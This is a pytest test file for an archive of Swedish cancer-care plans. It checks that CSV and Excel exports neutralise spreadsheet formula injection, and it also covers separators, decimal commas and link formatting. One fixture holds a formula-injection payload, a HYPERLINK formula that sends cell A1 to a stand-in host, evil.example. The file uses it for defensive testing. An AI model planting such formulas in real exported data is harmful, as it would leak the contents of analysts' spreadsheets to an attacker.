"""CSV that opens safely and readably in a spreadsheet: from Datasette and from ``export``.

Reads the small published archive of ``test_publish_fixture``, with a few titles and a
page text changed to what a hostile or careless site could publish; writes CSV into
``tmp_path``. A cell that starts with = + - @ (or a tab or CR) is a formula to Excel,
LibreOffice and Google Sheets; it must reach the analyst as text, numbers untouched.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from test_publish_fixture import build_published_archive

from rcc_archive.publish.build import publish_archive
from rcc_archive.publish.export import export_corpus, export_rows
from rcc_archive.publish.serve import make_datasette

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1;"klicka")'
PAGE_TEXT = "@SUM(1+1) Cancerplan med dold formel. -Punkt två om cancer."
BASE = "https://arkiv.example.se"


@pytest.fixture(scope="module")
def published(tmp_path_factory):
    data_dir, shas = build_published_archive(tmp_path_factory.mktemp("csv"))
    db = data_dir.open_db()
    with db.conn:
        db.conn.execute("UPDATE documents SET title = ? WHERE id = 1", (FORMULA,))
        db.conn.execute("UPDATE documents SET title = '+46 Bröstcancer' WHERE id = 2")
        db.conn.execute(
            "UPDATE pdf_pages SET text = ? WHERE sha256 = ? AND page_number = 1",
            (PAGE_TEXT, shas["sos_analys"]),
        )
    db.conn.close()
    publish_archive(data_dir, rebuild=True)
    return data_dir, shas


@pytest.fixture(scope="module")
def ds(published):
    return make_datasette(published[0])


def parse(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text), delimiter=delimiter))


def by_id(rows: list[dict[str, str]]) -> dict[str, dict[str, str]]:
    return {row["id"]: row for row in rows}


async def test_datasette_csv_turns_formulas_into_text_and_leaves_numbers(ds):
    response = await ds.client.get("/archive/documents.csv", params={"_stream": "on"})
    rows = by_id(parse(response.text))
    assert rows["1"]["title"] == "'" + FORMULA
    assert rows["2"]["title"] == "'+46 Bröstcancer"
    assert rows["3"]["title"] == "Regional cancerplan 2024–2027 Norr"
    assert rows["3"]["period_start"] == "2024"
    sql = "select -3 as n, '-3' as t, -0.5 as f, '-x' as u, char(9) || 'tab' as w, 'a=b' as v"
    response = await ds.client.get("/archive.csv", params={"sql": sql})
    assert parse(response.text) == [
        {"n": "-3", "t": "-3", "f": "-0.5", "u": "'-x", "w": "'\ttab", "v": "a=b"}
    ]


async def test_datasette_search_csv_is_plain_text_with_absolute_links(ds, published):
    response = await ds.client.get("/archive/search.csv", params={"term": "formel"})
    rows = parse(response.text)
    assert rows and {row["snippet"] for row in rows} == {"'" + PAGE_TEXT}
    sha = published[1]["sos_analys"]
    assert rows[0]["archived_page"] == f"http://localhost/-/archive/{sha}#page=1"
    cancer = parse((await ds.client.get("/archive/search.csv", params={"term": "cancer"})).text)
    assert len(cancer) > 5
    assert not any("<mark>" in row["snippet"] or "</mark>" in row["snippet"] for row in cancer)
    assert all(row["archived_page"].startswith("http://localhost/-/archive/") for row in cancer)


async def test_a_configured_base_url_makes_the_links_public(published):
    ds = make_datasette(published[0], base_url=BASE + "/")
    response = await ds.client.get("/archive/search.csv", params={"term": "cancer"})
    rows = parse(response.text)
    assert rows and all(row["archived_page"].startswith(BASE + "/-/archive/") for row in rows)
    matrix = parse((await ds.client.get("/archive/plans_timeline.csv", params={"region": ""})).text)
    assert all(row["archived_file"].startswith(BASE + "/-/archive/") for row in matrix)


async def test_every_page_offers_an_excel_export_that_streams_every_row(ds):
    page = await ds.client.get("/archive/fetches")
    assert 'href="/archive/fetches.excel' in page.text
    response = await ds.client.get("/archive/fetches.excel")
    assert response.status_code == 302
    response = await ds.client.get(response.headers["location"])
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith("attachment")
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    assert text.startswith("id;run_id;url;")
    assert "\r\n" in text
    rows = parse(text, ";")
    plain = parse((await ds.client.get("/archive/fetches.csv", params={"_stream": "on"})).text)
    assert len(rows) == len(plain) > 1000


async def test_excel_export_of_a_query_keeps_letters_and_uses_decimal_commas(ds):
    response = await ds.client.get("/archive/search.excel", params={"term": "bröstcancer"})
    response = await ds.client.get(response.headers["location"])
    rows = parse(response.content.decode("utf-8-sig"), ";")
    assert rows
    assert any("Bröst" in row["snippet"] for row in rows)
    assert all("," in row["score"] and "." not in row["score"] for row in rows)
    assert "<mark>" not in response.text


def test_cli_csv_export_is_safe_plain_and_absolute(published, tmp_path):
    data_dir, shas = published
    out = io.StringIO()
    export_rows(data_dir.db_path, "documents", "csv", out)
    rows = by_id(parse(out.getvalue()))
    assert rows["1"]["title"] == "'" + FORMULA
    assert rows["3"]["period_start"] == "2024"
    out = io.StringIO()
    export_rows(data_dir.db_path, "search", "csv", out, params={"term": "formel"}, base_url=BASE)
    rows = parse(out.getvalue())
    assert rows and {row["snippet"] for row in rows} == {"'" + PAGE_TEXT}
    assert {row["archived_page"] for row in rows} == {
        f"{BASE}/-/archive/{shas['sos_analys']}#page=1"
    }
    out = io.StringIO()
    export_rows(data_dir.db_path, "select -3 as n, '-x' as t", "csv", out)
    assert out.getvalue() == "n,t\r\n-3,'-x\r\n"


def test_cli_excel_export_has_bom_semicolons_and_decimal_commas(published):
    data_dir, _ = published
    out = io.StringIO()
    count = export_rows(
        data_dir.db_path, "search", "csv", out, params={"term": "cancer"}, excel=True
    )
    text = out.getvalue()
    assert text.startswith("\ufefftitle;region;")
    rows = parse(text[1:], ";")
    assert len(rows) == count > 5
    assert all("," in row["score"] for row in rows)
    assert any(row["region"] == "Stockholm Gotland" for row in rows)
    with pytest.raises(ValueError, match="CSV format"):
        export_rows(data_dir.db_path, "documents", "jsonl", io.StringIO(), excel=True)
    with pytest.raises(ValueError, match="base URL"):
        export_rows(data_dir.db_path, "documents", "csv", io.StringIO(), base_url="javascript:x")


def test_jsonl_keeps_values_as_stored(published):
    data_dir, _ = published
    out = io.StringIO()
    export_rows(data_dir.db_path, "select title from documents where id = 1", "jsonl", out)
    assert json.loads(out.getvalue()) == {"title": FORMULA}


def test_corpus_manifest_names_region_publisher_version_and_current(published, tmp_path):
    data_dir, _ = published
    export_corpus(data_dir, tmp_path / "corpus")
    with (tmp_path / "corpus" / "manifest.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    by_sha = {row["sha256"]: row for row in rows}
    assert {"region_name", "publisher", "version_number", "is_current_version"} <= set(rows[0])
    versions: dict[str, list[dict[str, str]]] = {}
    for row in rows:
        versions.setdefault(row["document_id"], []).append(row)
    for entries in versions.values():
        assert [row["version_number"] for row in entries] == [
            str(n) for n in range(1, len(entries) + 1)
        ]
        assert sum(row["is_current_version"] == "1" for row in entries) <= 1
    several = [entries for entries in versions.values() if len(entries) > 1]
    assert several, "the fixture has a document with two versions"
    assert several[0][-1]["is_current_version"] == "1"
    assert several[0][0]["is_current_version"] == "0"
    norr = next(row for row in by_sha.values() if row["region"] == "norr")
    assert (norr["region_name"], norr["publisher"]) == ("Norr", "RCC Norr")
    national = next(row for row in rows if row["url"].startswith("https://www.socialstyrelsen"))
    assert national["publisher"] == "Socialstyrelsen"
    assert by_sha and all(not row["title"].startswith("=") for row in rows)
